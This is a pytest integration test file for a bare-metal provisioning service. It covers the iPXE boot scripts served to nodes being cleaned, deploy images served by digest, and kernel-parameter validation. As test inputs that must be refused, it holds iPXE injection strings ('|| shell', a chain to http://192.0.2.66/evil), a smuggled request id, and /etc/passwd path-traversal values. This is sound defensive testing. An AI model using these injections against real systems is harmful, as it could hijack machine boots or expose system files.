"""The ``ipxe`` boot interface through the API, a conductor and a real Redfish emulator.

A node being cleaned gets a script that boots the deploy kernel and ramdisk
metalforge fetched, served by their digest, with the parameters the agent
needs; a machine that is not booting the ramdisk gets nothing and boots its
disk. A bad image fails the flow at once, with the reason. The node's own
iPXE is not in this test (the agent is not started either): the scripts are
fetched as iPXE fetches them, over the agents' paths.
"""

from __future__ import annotations

import hashlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import update

from metalforge.config import load_settings
from metalforge.db.models import Node
from tests.support.api import LATEST, create_node, error_text, get_node, provision, wait_for_state
from tests.support.images import ImageServer, image_server, kernel_bytes, ramdisk_bytes
from tests.support.redfish import Bmc, start_bmc, start_redfish_stack
from tests.support.stack import FAST_CONDUCTOR, Stack

pytestmark = pytest.mark.timeout(120)

KERNEL = kernel_bytes()
RAMDISK = ramdisk_bytes()
HTTP_URL = "http://10.251.0.1:6385"


@pytest.fixture(scope="module")
def bmc(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Bmc]:
    yield from start_bmc(tmp_path_factory.mktemp("bmc"), count=12)


@pytest.fixture(scope="module")
def images() -> Iterator[ImageServer]:
    with image_server(
        {"/vmlinuz": KERNEL, "/initrd": RAMDISK, "/oops": b"<html>Gateway Timeout</html>"}
    ) as served:
        yield served


@pytest.fixture
def stack(sqlite_url: str, tmp_path: Path) -> Iterator[Stack]:
    settings = load_settings(
        database={"url": sqlite_url},
        conductor={
            **FAST_CONDUCTOR,
            "hostname": "test-conductor",
            "netboot": {
                "http_url": HTTP_URL,
                "image_cache_dir": str(tmp_path / "boot-images"),
                # The images are served on this host's loopback.
                "fetch_allowed_networks": ["127.0.0.0/8"],
                "kernel_append": "console=ttyS0 ipa-debug=1",
            },
        },
    )
    running = start_redfish_stack(settings)
    try:
        yield running
    finally:
        running.stop()


def _ipxe_node(
    stack: Stack, bmc: Bmc, images: ImageServer, kernel: str, boot: str = "ipxe"
) -> dict[str, Any]:
    system = bmc.take()
    node = create_node(
        stack.client,
        driver="redfish",
        boot_interface=boot,
        driver_info={
            **bmc.driver_info(system),
            "deploy_kernel": f"{images.url}{kernel}",
            "deploy_ramdisk": f"{images.url}/initrd",
        },
    )
    port = stack.client.post(
        "/v1/ports", json={"address": system.macs[0], "node_uuid": node["uuid"]}, headers=LATEST
    )
    assert port.status_code == 201, port.text
    node["mac"] = system.macs[0]
    node["system"] = system
    return node


def _script(stack: Stack, mac: str) -> Any:
    return stack.client.get(f"/boot/{mac.replace(':', '-')}.ipxe")


def test_a_node_being_cleaned_boots_the_fetched_ramdisk_and_then_nothing(
    stack: Stack, bmc: Bmc, images: ImageServer
) -> None:
    node = _ipxe_node(stack, bmc, images, "/vmlinuz")
    uuid, mac = node["uuid"], node["mac"]
    assert _script(stack, mac).status_code == 404  # enrolled: it boots its disk
    assert provision(stack.client, uuid, "manage").status_code == 202
    wait_for_state(stack.client, uuid, "manageable")
    assert _script(stack, mac).status_code == 404
    provide = provision(stack.client, uuid, "provide")
    assert provide.status_code == 202
    request_id = provide.headers["x-openstack-request-id"]
    waiting = wait_for_state(stack.client, uuid, "clean wait")
    assert waiting["last_error"] is None
    assert bmc.system(node["system"])["Boot"]["BootSourceOverrideTarget"] == "Pxe"
    assert bmc.system(node["system"])["PowerState"] == "On"

    chain = stack.client.get("/boot.ipxe")
    assert chain.status_code == 200
    assert chain.text.startswith("#!ipxe\n")
    assert f"chain --autofree {HTTP_URL}/boot/${{net${{index}}/mac:hexhyp}}.ipxe" in chain.text

    script = _script(stack, mac)
    assert script.status_code == 200, script.text
    assert script.headers["cache-control"] == "no-store"
    kernel_digest = hashlib.sha256(KERNEL).hexdigest()
    ramdisk_digest = hashlib.sha256(RAMDISK).hexdigest()
    lines = script.text.splitlines()
    assert lines[0] == "#!ipxe"
    assert f"# metalforge: node {uuid} boots the agent ramdisk (clean)" in lines
    kernel_line = next(line for line in lines if line.startswith("kernel "))
    assert kernel_line == (
        f"kernel --name kernel {HTTP_URL}/boot/images/{kernel_digest} initrd=ramdisk "
        f"ipa-api-url={HTTP_URL} BOOTIF={mac} ipa-global-request-id={request_id} "
        "console=ttyS0 ipa-debug=1 || goto again"
    )
    assert f"initrd --name ramdisk {HTTP_URL}/boot/images/{ramdisk_digest} || goto again" in lines
    # Either spelling of the MAC finds the same script.
    assert stack.client.get(f"/boot/{mac}.ipxe").text == script.text

    # The images are served by digest, byte for byte, fetched from their source once.
    kernel = stack.client.get(f"/boot/images/{kernel_digest}")
    assert kernel.status_code == 200
    assert kernel.content == KERNEL
    assert stack.client.get(f"/boot/images/{ramdisk_digest}").content == RAMDISK
    head = stack.client.head(f"/boot/images/{ramdisk_digest}")
    assert head.status_code == 200
    assert head.headers["content-length"] == str(len(RAMDISK))
    assert images.requests["/vmlinuz"] == 1

    # Cleaning aborted: the ramdisk session ends, and the node boots its disk again.
    assert provision(stack.client, uuid, "abort").status_code == 202
    wait_for_state(stack.client, uuid, "clean failed")
    assert _script(stack, mac).status_code == 404


def test_http_ipxe_asks_the_bmc_for_uefi_http_boot_and_serves_the_same_script(
    stack: Stack, bmc: Bmc, images: ImageServer
) -> None:
    node = _ipxe_node(stack, bmc, images, "/vmlinuz", boot="http-ipxe")
    uuid, mac = node["uuid"], node["mac"]
    assert provision(stack.client, uuid, "manage").status_code == 202
    wait_for_state(stack.client, uuid, "manageable")
    assert provision(stack.client, uuid, "provide").status_code == 202
    wait_for_state(stack.client, uuid, "clean wait")
    # The BMC offers UefiHttp and took it; sushy-tools stores it as Pxe when no
    # HttpBootUri comes with it (DHCP tells the firmware where to go).
    assert bmc.system(node["system"])["Boot"]["BootSourceOverrideTarget"] == "Pxe"
    history = stack.client.get(f"/v1/nodes/{uuid}/history", headers=LATEST).json()["history"]
    assert not [e for e in history if "offers no UEFI HTTP boot" in e["event"]]
    script = _script(stack, mac)
    assert script.status_code == 200, script.text
    assert f"# metalforge: node {uuid} boots the agent ramdisk (clean)" in script.text
    assert provision(stack.client, uuid, "abort").status_code == 202
    wait_for_state(stack.client, uuid, "clean failed")
    assert _script(stack, mac).status_code == 404


def test_a_nodes_own_kernel_parameters_replace_or_extend_the_default(
    stack: Stack, bmc: Bmc, images: ImageServer
) -> None:
    node = _ipxe_node(stack, bmc, images, "/vmlinuz")
    uuid, mac = node["uuid"], node["mac"]
    patched = stack.client.patch(
        f"/v1/nodes/{uuid}",
        json=[
            {
                "op": "add",
                "path": "/driver_info/kernel_append_params",
                "value": "%default% console=ttyS1,115200n8",
            }
        ],
        headers=LATEST,
    )
    assert patched.status_code == 200, patched.text
    assert provision(stack.client, uuid, "manage").status_code == 202
    wait_for_state(stack.client, uuid, "manageable")
    # A caller's own request id (one it carries across services) is the flow's.
    carried = "req-0b6e6c3a-3f5e-4c41-9d1e-6a0c2f4e9b17"
    provide = stack.client.put(
        f"/v1/nodes/{uuid}/states/provision",
        json={"target": "provide"},
        headers={**LATEST, "X-OpenStack-Request-ID": carried},
    )
    assert provide.status_code == 202, provide.text
    wait_for_state(stack.client, uuid, "clean wait")
    kernel_line = next(
        line for line in _script(stack, mac).text.splitlines() if line.startswith("kernel ")
    )
    assert kernel_line.endswith(
        f"BOOTIF={mac} ipa-global-request-id={carried} console=ttyS0 ipa-debug=1 "
        "console=ttyS1,115200n8 || goto again"
    )
    assert provision(stack.client, uuid, "abort").status_code == 202
    wait_for_state(stack.client, uuid, "clean failed")


def test_a_request_id_that_is_not_one_is_not_carried_to_the_node(
    stack: Stack, bmc: Bmc, images: ImageServer
) -> None:
    node = _ipxe_node(stack, bmc, images, "/vmlinuz")
    uuid, mac = node["uuid"], node["mac"]
    assert provision(stack.client, uuid, "manage").status_code == 202
    wait_for_state(stack.client, uuid, "manageable")
    provide = stack.client.put(
        f"/v1/nodes/{uuid}/states/provision",
        json={"target": "provide"},
        headers={**LATEST, "X-OpenStack-Request-ID": "req-x ${net0/mac} || shell"},
    )
    assert provide.status_code == 202, provide.text
    own = provide.headers["x-openstack-request-id"]
    assert own.startswith("req-")
    assert "$" not in own
    wait_for_state(stack.client, uuid, "clean wait")
    script = _script(stack, mac).text
    assert f" ipa-global-request-id={own} " in script
    assert "shell" not in script
    assert provision(stack.client, uuid, "abort").status_code == 202
    wait_for_state(stack.client, uuid, "clean failed")


@pytest.mark.parametrize(
    "value",
    [
        "console=${net0/mac}",
        "a || shell",
        "quiet 'quoted'",
        "quiet\n#!ipxe\nchain http://192.0.2.66/evil",
        7,
        "x" * 2001,
    ],
)
def test_kernel_parameters_a_script_would_interpret_are_refused(
    stack: Stack, bmc: Bmc, images: ImageServer, value: object
) -> None:
    node = _ipxe_node(stack, bmc, images, "/vmlinuz")
    patched = stack.client.patch(
        f"/v1/nodes/{node['uuid']}",
        json=[{"op": "add", "path": "/instance_info/kernel_append_params", "value": value}],
        headers=LATEST,
    )
    assert patched.status_code == 400, patched.text
    assert "instance_info.kernel_append_params" in error_text(patched)
    assert "kernel_append_params" not in get_node(stack.client, node["uuid"])["instance_info"]
    # A value stored before it was checked at once (an older release) is refused at boot.
    with stack.db.write() as session:
        session.execute(
            update(Node)
            .where(Node.uuid == node["uuid"])
            .values(instance_info={"kernel_append_params": value})
        )
    boot = stack.client.get(f"/v1/nodes/{node['uuid']}/validate", headers=LATEST).json()["boot"]
    assert boot["result"] is False
    assert "instance_info.kernel_append_params" in boot["reason"]
    assert provision(stack.client, node["uuid"], "manage").status_code == 202
    wait_for_state(stack.client, node["uuid"], "manageable")
    assert provision(stack.client, node["uuid"], "provide").status_code == 202
    failed = wait_for_state(stack.client, node["uuid"], "clean failed")
    assert "instance_info.kernel_append_params" in failed["last_error"]
    assert _script(stack, node["mac"]).status_code == 404


def test_a_bad_deploy_image_fails_the_flow_at_once_with_the_reason(
    stack: Stack, bmc: Bmc, images: ImageServer
) -> None:
    node = _ipxe_node(stack, bmc, images, "/oops")
    assert provision(stack.client, node["uuid"], "manage").status_code == 202
    wait_for_state(stack.client, node["uuid"], "manageable")
    assert provision(stack.client, node["uuid"], "provide").status_code == 202
    failed = wait_for_state(stack.client, node["uuid"], "clean failed")
    assert "driver_info.deploy_kernel: kernel" in failed["last_error"]
    assert "is not a kernel: it is an HTML page" in failed["last_error"]
    assert _script(stack, node["mac"]).status_code == 404


@pytest.mark.parametrize(
    "path",
    [
        "/boot/52-54-00-zz-00-01.ipxe",
        "/boot/not-a-mac.ipxe",
        "/boot/52-54-00-00-00-01",
        "/boot/images/" + "0" * 64,
        "/boot/images/..%2F..%2Fetc%2Fpasswd",
        "/boot/images/ABC",
    ],
)
def test_what_is_not_a_boot_request_is_a_404(stack: Stack, path: str) -> None:
    answer = stack.client.get(path)
    assert answer.status_code == 404, answer.text


def test_a_machine_nobody_enrolled_gets_no_script(stack: Stack) -> None:
    assert _script(stack, "52:54:00:aa:bb:cc").status_code == 404


def test_validate_names_what_the_boot_lacks(stack: Stack, bmc: Bmc, images: ImageServer) -> None:
    system = bmc.take()
    node = create_node(
        stack.client, driver="redfish", boot_interface="ipxe", driver_info=bmc.driver_info(system)
    )
    path = f"/v1/nodes/{node['uuid']}/validate"
    boot = stack.client.get(path, headers=LATEST).json()["boot"]
    assert boot["result"] is False
    assert "driver_info is missing deploy_kernel, deploy_ramdisk" in boot["reason"]
    patched = stack.client.patch(
        f"/v1/nodes/{node['uuid']}",
        json=[
            {"op": "add", "path": "/driver_info/deploy_kernel", "value": "/etc/passwd"},
            {"op": "add", "path": "/driver_info/deploy_ramdisk", "value": f"{images.url}/initrd"},
        ],
        headers=LATEST,
    )
    assert patched.status_code == 200, patched.text
    boot = stack.client.get(path, headers=LATEST).json()["boot"]
    assert boot["result"] is False
    assert "driver_info.deploy_kernel: file /etc/passwd is not in a directory" in boot["reason"]
    patched = stack.client.patch(
        f"/v1/nodes/{node['uuid']}",
        json=[{"op": "add", "path": "/driver_info/deploy_kernel", "value": f"{images.url}/k"}],
        headers=LATEST,
    )
    assert patched.status_code == 200, patched.text
    assert stack.client.get(path, headers=LATEST).json()["boot"] == {"result": True}
